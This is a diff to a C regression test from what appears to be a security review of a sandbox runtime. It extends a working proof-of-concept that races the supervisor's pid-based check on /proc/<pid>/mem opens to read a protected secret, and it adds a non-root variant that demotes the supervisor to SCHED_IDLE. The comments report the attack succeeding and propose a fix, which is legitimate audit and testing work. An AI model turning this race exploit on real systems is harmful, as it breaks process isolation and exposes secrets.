@@ -1,8 +1,8 @@
 // Review 33, attacker model B (the default domain's program counter, any
-// system call the filter allows), as root (real-time priorities; the race
-// itself needs none, see below). Commit 78180ae lets a caller open a
-// procfs "mem" file whose pid is a thread of the caller's own process once
-// that process is no longer ours (supervisor-open.c judge). judge names
+// system call the filter allows); root not needed. Commit 78180ae lets a
+// caller open a procfs "mem" file whose pid is a thread of the caller's
+// own process once that process is no longer ours (supervisor-open.c
+// judge). judge names
 // the process by the number in the opened file's path, read back
 // (readlink) after the open, and asks /proc/<n>/status and /proc/<n>/stat
 // then; the open file is bound to the address space of the task that had
@@ -16,7 +16,10 @@
 //      counter then stands just below s; main made x above 300, the
 //      kernel's RESERVED_PIDS, which are not handed out after a wrap);
 //   2. watches /proc/s/mem with inotify (IN_OPEN) from a SCHED_FIFO
-//      thread, and gives S a higher real-time priority;
+//      thread, and gives S a higher real-time priority (root); or, as
+//      any user ("idle"), makes the supervisor's loop SCHED_IDLE
+//      (sched_setscheduler of a process of the same user: let through),
+//      so that every thread of ours runs before it;
 //   3. opens /proc/s/mem for reading and writing. The supervisor opens it
 //      (bound to our memory through S) and the inotify event wakes the
 //      watcher before the supervisor's judge runs: the watcher kills S
@@ -26,14 +29,16 @@
 //   4. reads the vault's secret through that descriptor (protection keys
 //      do not apply to /proc/<pid>/mem) and could write anywhere in our
 //      process the same way.
-// Without root (no real-time priority), the same race is a timing one:
-// a window of some microseconds per attempt, one pid cycle per attempt
-// (reasoned, not run).
+// Where Yama's ptrace_scope is 1, a user that is not root cannot have the
+// supervisor open S's mem (S is not the process that named the supervisor
+// its ptracer); a fork of ours, which the runtime's atfork handler makes
+// name it, would do, for a copy of our memory (reasoned, not run).
 //
 // Here the control reads the secret from the default domain: it faults;
 // and the same run with S left alone (keep) is refused by the supervisor.
 //
-// Seen in the guest (root): ATTACK SUCCEEDED.
+// Seen in the guest: ATTACK SUCCEEDED as root (real-time), as root with
+// "idle", and as nobody with "idle" (the guest's ptrace_scope is 0).
 //
 // Suggested fix: name the process by the open file, not by a number read
 // back later: compare the descriptor with the caller's own mem file
@@ -55,6 +60,8 @@
 // RUN: FileCheck %s < %t/out
 // RUN: env BULKHEAD_VM_FILES=%t/prog:%t/helper %run %t/prog attack %t/helper keep > %t/keep.out 2>&1 || true
 // RUN: FileCheck --check-prefix=KEEP %s < %t/keep.out
+// RUN: env BULKHEAD_VM_FILES=%t/prog:%t/helper:/lib/x86_64-linux-gnu/libmimalloc.so.2:/lib/x86_64-linux-gnu/libgcc_s.so.1 %run /usr/bin/setpriv --reuid=65534 --regid=65534 --clear-groups %t/prog attack %t/helper idle > %t/nobody.out 2>&1 || true
+// RUN: FileCheck --check-prefix=NOBODY %s < %t/nobody.out
 // CONTROL: uid 0
 // CONTROL-NOT: ATTACK SUCCEEDED
 // CONTROL: bulkhead: protection-key fault: access to 0x{{[0-9a-f]+}} in compartment 'vault'
@@ -65,6 +72,9 @@
 // KEEP-NOT: ATTACK SUCCEEDED
 // KEEP: open of /proc/{{[0-9]+}}/mem: -1 (Operation not permitted)
 // KEEP: helper: done
+// NOBODY: uid 65534
+// NOBODY-NOT: ATTACK SUCCEEDED
+// NOBODY: helper: done
 #define _GNU_SOURCE
 #include <errno.h>
 #include <fcntl.h>
@@ -110,14 +120,14 @@ static char stack[65536] __attribute__((aligned(16)));
 static int watch_fd;
 static pid_t s_pid;
 static volatile long taker = -2;
-static volatile int watching, reuse = 1;
+static volatile int watching, reuse = 1, idle;
 
 /* Wakes at the supervisor's open: S ends, a thread of ours takes its
  * number. */
 static void *watcher(void *unused) {
   (void)unused;
   struct sched_param sp = {.sched_priority = 10};
-  if (sched_setscheduler(0, SCHED_FIFO, &sp))
+  if (!idle && sched_setscheduler(0, SCHED_FIFO, &sp))
     perror("helper: watcher SCHED_FIFO");
   watching = 1;
   char ev[512];
@@ -131,12 +141,34 @@ static void *watcher(void *unused) {
     pause();
 }
 
-/* helper S X ADDR [keep]: keep leaves S alone (the supervisor's judge
- * then sees S's number as it was at the open). */
+/* The supervisor's pid: the process after our parent's whose status it
+ * refuses to open for us (its own procfs files). */
+static pid_t find_supervisor(void) {
+  pid_t parent = getppid();
+  for (pid_t p = parent + 1; p < parent + 64; p++) {
+    if (p == getpid() || p == s_pid)
+      continue;
+    char path[64];
+    snprintf(path, sizeof path, "/proc/%d/status", (int)p);
+    int fd = open(path, O_RDONLY);
+    if (fd >= 0)
+      close(fd);
+    else if (errno == EPERM)
+      return p;
+  }
+  return -1;
+}
+
+/* helper S X ADDR [keep|idle]: keep leaves S alone (the supervisor's
+ * judge then sees S's number as it was at the open); idle, for a user
+ * that is not root, uses no real-time priority but makes the supervisor's
+ * loop SCHED_IDLE (allowed: the same user), so that any of our threads
+ * runs before it. */
 int main(int argc, char **argv) {
   if (argc < 4)
     return 2;
-  reuse = argc < 5;
+  reuse = argc < 5 || strcmp(argv[4], "keep");
+  idle = argc >= 5 && !strcmp(argv[4], "idle");
   s_pid = atoi(argv[1]);
   pid_t x = atoi(argv[2]);
   unsigned long addr = strtoul(argv[3], NULL, 16);
@@ -147,8 +179,13 @@ int main(int argc, char **argv) {
     perror("helper: inotify");
     return 1;
   }
-  struct sched_param hi = {.sched_priority = 20};
-  if (sched_setscheduler(s_pid, SCHED_FIFO, &hi))
+  struct sched_param hi = {.sched_priority = 20}, none = {0};
+  if (idle) {
+    pid_t sup = find_supervisor();
+    printf("helper: uid %d, supervisor %d made SCHED_IDLE: %d\n",
+           (int)getuid(), (int)sup,
+           sup > 0 ? sched_setscheduler(sup, SCHED_IDLE, &none) : -1);
+  } else if (sched_setscheduler(s_pid, SCHED_FIFO, &hi))
     perror("helper: S SCHED_FIFO");
   pthread_t t;
   if (pthread_create(&t, NULL, watcher, NULL))
